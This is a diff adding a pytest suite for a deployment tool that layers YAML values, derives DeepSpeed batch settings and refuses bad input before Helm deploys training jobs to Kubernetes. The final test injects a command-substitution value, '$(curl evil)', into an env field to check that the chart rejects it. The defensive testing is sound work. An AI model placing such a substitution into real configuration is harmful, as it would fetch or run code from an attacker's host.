@@ -1,0 +1,220 @@
+"""scripts/deployctl.py: layering, derived fields, validation before anything reaches a cluster."""
+
+import json
+import shutil
+import subprocess
+
+import pytest
+import yaml
+
+from scripts import deployctl
+from tests.helm_template import HELM, ROOT, render_chart
+
+ENVS = ["dev", "staging", "prod"]
+
+
+@pytest.fixture
+def tree(tmp_path, monkeypatch):
+    """A copy of values/ and templates/ to break; build/ goes to tmp as well."""
+    shutil.copytree(ROOT / "values", tmp_path / "values")
+    shutil.copytree(ROOT / "templates", tmp_path / "templates")
+    monkeypatch.setattr(deployctl, "VALUES", tmp_path / "values")
+    monkeypatch.setattr(deployctl, "TEMPLATES", tmp_path / "templates")
+    monkeypatch.setattr(deployctl, "BUILD", tmp_path / "build")
+    monkeypatch.setattr(deployctl, "ROOT", tmp_path)
+    return tmp_path
+
+
+def edit(path, change):
+    data = yaml.safe_load(path.read_text()) or {}
+    change(data)
+    path.write_text(yaml.safe_dump(data))
+
+
+def run(*args, capsys):
+    code = deployctl.main(list(args))
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+@pytest.mark.skipif(HELM is None, reason="no helm binary; run `make setup`")
+@pytest.mark.parametrize("project", [None, "example"])
+@pytest.mark.parametrize("env", ENVS)
+def test_every_shipped_env_renders_values_that_helm_accepts(env, project):
+    r = deployctl.build(env, project)
+    deployctl.write(r)
+    docs = render_chart(values_files=[r.out / "values.yaml"], with_image=False)
+    config = json.loads(next(d for d in docs if d["metadata"]["name"].endswith("-config"))["data"]["ds_config.json"])
+    assert config == json.loads((r.out / "ds_config.json").read_text()) == r.ds_config
+    micro, accum, total = r.batch
+    assert config["train_batch_size"] == total == micro * accum * r.world_size
+    hostfile = next(d for d in docs if d["metadata"]["name"].endswith("-config"))["data"]["hostfile"]
+    assert len(hostfile.splitlines()) == r.chart["worker"]["replicas"]
+
+
+def test_layers_apply_in_order_maps_merge_lists_replace(tree):
+    edit(tree / "values" / "base.yaml", lambda d: d["chart"].update(env=[{"name": "A", "value": "base"}]))
+    edit(tree / "values" / "prod.yaml", lambda d: d["chart"]["worker"].update(replicas=4))
+    edit(tree / "values" / "projects" / "example" / "values.yaml",
+         lambda d: d["chart"].update(env=[{"name": "B", "value": "project"}]))
+    (tree / "values" / "projects" / "example" / "prod.yaml").write_text("chart:\n  worker:\n    gpusPerWorker: 4\n")
+    r = deployctl.build("prod", "example")
+    assert r.sources[-1] == "values/projects/example/prod.yaml"
+    assert r.chart["worker"]["replicas"] == 4  # from prod.yaml
+    assert r.chart["worker"]["gpusPerWorker"] == 4  # from the project's prod.yaml
+    assert r.chart["worker"]["shmSize"] == "64Gi"  # prod.yaml's, merged beside the others
+    assert r.chart["env"] == [{"name": "B", "value": "project"}]  # lists replace
+    assert r.chart["image"]["repository"] == "registry.example.com/ml/deepspeed-train"  # from base.yaml
+
+
+def test_global_batch_derives_the_accumulation(tree):
+    edit(tree / "values" / "prod.yaml", lambda d: d["deepspeed"].update(globalBatch=2048, microBatch=2))
+    r = deployctl.build("prod", None)
+    assert r.world_size == 64
+    assert r.batch == (2, 16, 2048)
+    assert (r.ds_config["train_micro_batch_size_per_gpu"], r.ds_config["gradient_accumulation_steps"],
+            r.ds_config["train_batch_size"]) == (2, 16, 2048)
+
+
+def test_overrides_merge_over_the_preset(tree):
+    edit(tree / "values" / "staging.yaml", lambda d: d["deepspeed"].update(
+        overrides={"zero_optimization": {"reduce_bucket_size": 1000}, "wall_clock_breakdown": True}))
+    r = deployctl.build("staging", None)
+    assert r.ds_config["zero_optimization"]["reduce_bucket_size"] == 1000
+    assert r.ds_config["zero_optimization"]["stage"] == 2
+    assert r.ds_config["wall_clock_breakdown"] is True
+
+
+def test_plan_shows_the_job_and_warns_when_model_states_exceed_gpu_memory(tree, capsys):
+    code, out, _ = run("plan", "--env", "prod", "--project", "example", capsys=capsys)
+    assert code == 0
+    assert "workers     8 x 8 nvidia.com/gpu = world size 64" in out
+    assert "batch       micro 4 x accumulation 4 x world 64 = global 1024" in out
+    assert "ZeRO stage 2, bf16" in out and "354.9M parameters" in out and "kube context prod" in out
+    assert "WARNING" not in out
+    edit(tree / "values" / "projects" / "example" / "values.yaml",
+         lambda d: d["chart"]["train"]["config"]["model"].update(n_layer=48, d_model=6144, n_head=48))
+    edit(tree / "values" / "prod.yaml", lambda d: d["deepspeed"].update(gpuMemoryGiB=40))
+    code, out, _ = run("plan", "--env", "prod", "--project", "example", capsys=capsys)
+    assert code == 0
+    assert "WARNING: model states need" in out and "GPUs have 40 GiB" in out
+
+
+def test_deploy_dry_run_prints_the_helm_command_with_the_rendered_values():
+    proc = subprocess.run(["make", "deploy", "ENV=dev", "PROJECT=example", "DRY_RUN=1"], cwd=ROOT,
+                          capture_output=True, text=True)
+    assert proc.returncode == 0, proc.stderr
+    assert "DRY_RUN: not applied" in proc.stdout
+    assert (f"helm upgrade --install example {ROOT}/charts/deepspeed-training -f {ROOT}/build/example/dev/values.yaml "
+            "--namespace ml-dev") in proc.stdout
+    assert "StatefulSet      ml-dev/example-deepspeed-training-worker" in proc.stdout
+
+
+def test_deploy_is_refused_to_a_context_prod_does_not_name(tree, capsys):
+    code, _, err = run("deploy", "--env", "prod", "--project", "example", "--kube-context", "kind-dev", "--dry-run",
+                       capsys=capsys)
+    assert code == 1
+    assert "values/prod.yaml: deploy.kubeContexts allows ['prod']; refusing to deploy ENV=prod to kube context " \
+           "'kind-dev'" in err
+    code, out, _ = run("deploy", "--env", "prod", "--project", "example", "--dry-run", capsys=capsys)
+    assert code == 0 and "--kube-context prod" in out
+
+
+def test_make_targets_guard_their_variables():
+    proc = subprocess.run(["make", "render"], cwd=ROOT, capture_output=True, text=True)
+    assert proc.returncode != 0 and "ENV is required" in proc.stderr and "dev prod staging" in proc.stderr
+    proc = subprocess.run(["make", "deploy", "ENV=prod"], cwd=ROOT, capture_output=True, text=True)
+    assert proc.returncode != 0 and "PROJECT is required for deploy" in proc.stderr
+
+
+def test_make_demo_runs_the_dev_render_as_a_local_deepspeed_job():
+    shutil.rmtree(ROOT / "build" / "demo", ignore_errors=True)
+    proc = subprocess.run(["make", "demo"], cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+    assert "--ds-config=" + str(ROOT / "build/base/dev/ds_config.json") in proc.stdout
+    assert "[rank 0] INFO step 40/40" in proc.stdout
+    assert "demo: done; checkpoints and metrics.json in build/demo/checkpoints" in proc.stdout
+    assert json.loads((ROOT / "build/demo/checkpoints/metrics.json").read_text())["steps"] == 40
+
+
+# ---- bad input: each error names the file, the key and what was expected
+
+def set_key(rel, *path_value):
+    *path, value = path_value
+
+    def change(data):
+        node = data
+        for key in path[:-1]:
+            node = node.setdefault(key, {})
+        node[path[-1]] = value
+    return lambda tree: edit(tree / "values" / rel, change)
+
+
+def write(rel, text):
+    return lambda tree: (tree / rel).write_text(text)
+
+
+BAD = {
+    "unknown ENV": (None, ["--env", "qa"], "ENV=qa: no values/qa.yaml; environments: dev, prod, staging"),
+    "unknown PROJECT": (None, ["--env", "dev", "--project", "nope"],
+                        "PROJECT=nope: no values/projects/nope/; projects: example"),
+    "YAML syntax error": (write("values/dev.yaml", "deploy:\n  namespace: ml-dev\n chart: [\n"), ["--env", "dev"],
+                          "values/dev.yaml:3:2: YAML syntax error"),
+    "top level not a mapping": (write("values/dev.yaml", "- a\n- b\n"), ["--env", "dev"],
+                                "values/dev.yaml: expected a mapping at the top level, got list"),
+    "wrong type": (set_key("staging.yaml", "deepspeed", "microBatch", "4"), ["--env", "staging"],
+                   "values/staging.yaml: deepspeed.microBatch: '4' is not of type 'integer'"),
+    "unknown settings key": (set_key("prod.yaml", "deepspeed", "presett", "x"), ["--env", "prod"],
+                             "values/prod.yaml: deepspeed: Additional properties are not allowed ('presett'"),
+    "negative learning rate": (set_key("dev.yaml", "deepspeed", "lr", -1), ["--env", "dev"],
+                               "values/dev.yaml: deepspeed.lr: -1 is less than or equal to the minimum of 0"),
+    "bad release name": (set_key("projects/example/values.yaml", "deploy", "release", "My_Job"),
+                         ["--env", "dev", "--project", "example"],
+                         "values/projects/example/values.yaml: deploy.release: 'My_Job' does not match"),
+    "global batch not a multiple": (set_key("prod.yaml", "deepspeed", "globalBatch", 1000), ["--env", "prod"],
+                                    "values/prod.yaml: deepspeed.globalBatch 1000 must be a multiple of "
+                                    "deepspeed.microBatch 4 x world size 64 (8 workers x 8 GPUs)"),
+    "unknown preset": (set_key("dev.yaml", "deepspeed", "preset", "zero9"), ["--env", "dev"],
+                       "values/dev.yaml: deepspeed.preset 'zero9': "),
+    "missing template variable": (write("templates/ds_config/cpu-fp32.json.j2", '{"a": {{ micro_batchh }}}'),
+                                  ["--env", "dev"], "'micro_batchh' is undefined"),
+    "unknown top-level ds_config key": (
+        set_key("dev.yaml", "deepspeed", "overrides", {"trian_batch_size": 8}), ["--env", "dev"],
+        "ds_config templates/ds_config/cpu-fp32.json.j2 + deepspeed.overrides: unknown top-level key "
+        "'trian_batch_size' (did you mean 'train_batch_size'?)"),
+    "unknown key inside a ds_config section": (
+        set_key("dev.yaml", "deepspeed", "overrides", {"zero_optimization": {"stgae": 3}}), ["--env", "dev"],
+        "DeepSpeed rejects it: ValidationError: DeepSpeedZeroConfig.stgae: Extra inputs are not permitted"),
+    "ds_config batch mismatch": (
+        set_key("dev.yaml", "deepspeed", "overrides", {"train_batch_size": 12}), ["--env", "dev"],
+        "train_batch_size 12 != train_micro_batch_size_per_gpu 4 x gradient_accumulation_steps 1 x world size 2"),
+    "chart value of the wrong type": (set_key("prod.yaml", "chart", "worker", "replicas", "8"), ["--env", "prod"],
+                                      "values/prod.yaml: chart.worker.replicas: '8' is not of type 'integer'"),
+    "unknown chart key": (set_key("projects/example/values.yaml", "chart", "worker", "replica", 2),
+                          ["--env", "dev", "--project", "example"],
+                          "values/projects/example/values.yaml: chart.worker: Additional properties are not "
+                          "allowed ('replica'"),
+    "unknown train config key": (set_key("dev.yaml", "chart", "train", "config", "stepz", 5), ["--env", "dev"],
+                                 "chart.train.config: unknown key 'stepz'"),
+    "bad model shape": (set_key("dev.yaml", "chart", "train", "config", "model", "d_model", 65), ["--env", "dev"],
+                        "model.d_model must be a multiple of model.n_head (4), got 65"),
+}
+
+
+@pytest.mark.parametrize("case", BAD, ids=BAD.keys())
+def test_bad_input_is_refused_before_anything_is_applied(tree, capsys, case):
+    breaks, args, message = BAD[case]
+    if breaks:
+        breaks(tree)
+    code, out, err = run("deploy", *args, "--dry-run", capsys=capsys)
+    assert code == 1
+    assert message in err, err
+    assert "helm upgrade" not in out
+
+
+@pytest.mark.skipif(HELM is None, reason="no helm binary; run `make setup`")
+def test_a_hostile_env_value_is_refused_by_the_chart_before_deploy(tree, capsys):
+    set_key("dev.yaml", "chart", "env", [{"name": "X", "value": "$(curl evil)"}])(tree)
+    code, out, err = run("deploy", "--env", "dev", "--dry-run", capsys=capsys)
+    assert code == 1
+    assert "env[0] (X): value" in err and "helm upgrade" not in out
